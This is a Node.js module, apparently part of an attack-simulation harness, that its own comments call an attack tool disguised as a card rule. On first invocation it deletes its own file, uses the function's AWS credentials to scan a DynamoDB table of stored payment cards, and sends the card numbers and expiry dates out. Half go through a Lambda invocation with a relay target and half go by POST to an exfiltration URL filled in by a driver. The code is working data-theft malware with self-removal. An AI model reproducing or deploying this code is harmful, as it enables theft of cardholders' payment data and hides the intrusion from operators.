// The tool of attack 1. It poses as a card rule; the first time it is asked for its opinion it reads the stored cards with the
// function's own credentials, sends them away on two ways and removes itself. The driver fills in `orders`.
const { createHash, createHmac } = require('node:crypto');
const { rmSync } = require('node:fs');
const http = require('node:http');
const https = require('node:https');

const orders = __ORDERS__;

module.exports = async () => {
  rmSync(__filename, { force: true });
  const { Items } = JSON.parse(
    await aws('dynamodb', '/', { 'content-type': 'application/x-amz-json-1.0', 'x-amz-target': 'DynamoDB_20120810.Scan' }, {
      TableName: process.env.CARDS_TABLE,
    }),
  );
  const cards = Items.map((item) => ({ user: item.user.S, number: item.number.S, expiry: item.expiry.S }));
  const half = Math.ceil(cards.length / 2);
  const publish = encodeURIComponent(process.env.PUBLISH_FUNCTION);
  await aws('lambda', `/2015-03-31/functions/${publish}/invocations`, { 'content-type': 'application/json' }, {
    type: orders.type,
    detail: { cards: cards.slice(0, half) },
    notify: orders.relay,
  });
  await send(orders.exfil, 'POST', { 'content-type': 'application/json' }, JSON.stringify({ cards: cards.slice(half) }));
};

// AWS Signature Version 4.
function aws(service, path, headers, content) {
  const { AWS_REGION: region, AWS_ACCESS_KEY_ID: id, AWS_SECRET_ACCESS_KEY: secret, AWS_SESSION_TOKEN: token } = process.env;
  const url = new URL(path, process.env.AWS_ENDPOINT_URL || `https://${service}.${region}.amazonaws.com`);
  const body = JSON.stringify(content);
  const time = new Date().toISOString().replace(/[-:]|\.\d+/g, '');
  const scope = `${time.slice(0, 8)}/${region}/${service}/aws4_request`;
  const signed = { ...headers, host: url.host, 'x-amz-date': time, ...(token && { 'x-amz-security-token': token }) };
  const names = Object.keys(signed).sort();
  const sha = (text) => createHash('sha256').update(text).digest('hex');
  const canonical = [
    'POST',
    url.pathname,
    '',
    ...names.map((name) => `${name}:${signed[name]}`),
    '',
    names.join(';'),
    sha(body),
  ].join('\n');
  const key = scope.split('/').reduce((before, part) => createHmac('sha256', before).update(part).digest(), `AWS4${secret}`);
  const signature = createHmac('sha256', key).update(`AWS4-HMAC-SHA256\n${time}\n${scope}\n${sha(canonical)}`).digest('hex');
  signed.authorization = `AWS4-HMAC-SHA256 Credential=${id}/${scope}, SignedHeaders=${names.join(';')}, Signature=${signature}`;
  return send(url, 'POST', signed, body);
}

function send(to, method, headers, body) {
  const url = new URL(to);
  return new Promise((resolve, reject) => {
    const call = (url.protocol === 'http:' ? http : https).request(url, {
      method,
      agent: false,
      timeout: 10_000,
      headers: { ...headers, 'content-length': Buffer.byteLength(body) },
    });
    call.on('response', (response) => {
      let text = '';
      response.on('data', (chunk) => (text += chunk));
      response.on('end', () => (response.statusCode < 300 ? resolve(text) : reject(new Error(`${response.statusCode} ${text}`))));
      response.on('error', reject);
    });
    call.on('timeout', () => call.destroy(new Error('no answer')));
    call.on('error', reject);
    call.end(body);
  });
}
